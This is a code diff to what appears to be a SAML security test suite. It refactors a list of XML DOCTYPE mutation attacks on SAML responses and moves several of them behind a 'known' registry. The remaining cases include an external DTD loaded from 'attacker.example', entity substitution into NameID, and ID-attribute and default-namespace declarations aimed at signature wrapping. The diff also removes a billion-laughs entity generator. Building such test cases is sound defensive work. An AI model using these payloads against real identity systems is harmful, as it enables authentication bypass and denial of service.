@@ -1,6 +1,7 @@
+import { assertionTextOf, bareEvilAssertionOf, promote, replace } from '../../../src/core/mutations/attacks/edit.ts'
 import type { Attack } from './attack.ts'
-import { assertionOf, bareEvilAssertionOf, promote, replace } from './edit.ts'
 import { idOf } from './edit-signature.ts'
+import { known } from './known.ts'
 
 /** Puts a document type declaration right before the root. */
 const declare = (xml: string, doctype: string) => replace(xml, '<samlp:Response', `${doctype}<samlp:Response`)
@@ -9,8 +10,6 @@ const declare = (xml: string, doctype: string) => replace(xml, '<samlp:Response'
 const withEntity = (xml: string, entity: string, doctype: string) =>
   declare(replace(xml, /(?<=NameID[^>]*>)[^<]*/, `&${entity};`), doctype)
 
-const LAUGHS = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`)
-
 const DOCUMENT_TYPES: Omit<Attack, 'class' | 'expectFail'>[] = [
   {
     name: 'harmless',
@@ -18,12 +17,10 @@ const DOCUMENT_TYPES: Omit<Attack, 'class' | 'expectFail'>[] = [
     what: 'A document type declaration without content.',
     mutate: (xml) => declare(xml, '<!DOCTYPE samlp:Response>'),
   },
-  {
+  known('doctype-entity-in-name-id', {
     name: 'entity-in-name-id',
     base: 'salesforce/both',
-    what: 'The NameID is an internal entity.',
-    mutate: (xml) => withEntity(xml, 'user', '<!DOCTYPE r [<!ENTITY user "admin@example.com">]>'),
-  },
+  }),
   {
     name: 'file-entity',
     base: 'node-samlp/base-sp-redirect',
@@ -42,12 +39,10 @@ const DOCUMENT_TYPES: Omit<Attack, 'class' | 'expectFail'>[] = [
     what: 'The document type is a file of the attacker.',
     mutate: (xml) => declare(xml, '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">'),
   },
-  {
+  known('doctype-billion-laughs', {
     name: 'billion-laughs',
     base: 'salesforce/usual',
-    what: 'Nested entities would grow to a gigabyte.',
-    mutate: (xml) => withEntity(xml, 'l9', `<!DOCTYPE r [<!ENTITY l0 "ha">${LAUGHS.join('')}]>`),
-  },
+  }),
   {
     name: 'id-attribute-declared',
     base: 'node-samlp/base-idp-initiated',
@@ -65,15 +60,13 @@ const DOCUMENT_TYPES: Omit<Attack, 'class' | 'expectFail'>[] = [
     base: 'simplesamlphp/sign-assertion-sp-redirect',
     what: 'The declaration gives every NameID the ID of the genuine assertion, where only some parsers see it.',
     policy: 'assertion',
-    mutate: (xml) => declare(xml, `<!DOCTYPE r [<!ATTLIST saml:NameID ID ID "${idOf(assertionOf(xml))}">]>`),
+    mutate: (xml) => declare(xml, `<!DOCTYPE r [<!ATTLIST saml:NameID ID ID "${idOf(assertionTextOf(xml))}">]>`),
   },
-  {
+  known('doctype-default-namespace', {
     name: 'default-namespace',
     base: 'entra/assertion',
-    what: 'The declaration moves every NameID to another namespace by a default attribute.',
     policy: 'assertion',
-    mutate: (xml) => declare(xml, '<!DOCTYPE r [<!ATTLIST NameID xmlns CDATA #FIXED "urn:attacker">]>'),
-  },
+  }),
   {
     name: 'default-transform',
     base: 'salesforce/both',
@@ -150,12 +143,10 @@ const DOCUMENT_TYPES: Omit<Attack, 'class' | 'expectFail'>[] = [
     mutate: (xml) =>
       `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n${declare(xml, '<!DOCTYPE r SYSTEM "x.dtd">')}`,
   },
-  {
+  known('doctype-inside-the-root', {
     name: 'inside-the-root',
     base: 'simplesamlphp/user-bob-sp-redirect',
-    what: 'The declaration stands inside the root element, where lenient parsers read on.',
-    mutate: (xml) => replace(xml, '<samlp:Status>', '<!DOCTYPE r [<!ENTITY user "x">]><samlp:Status>'),
-  },
+  }),
 ]
 
 /** Document types, harmless or not: SAML has none. */
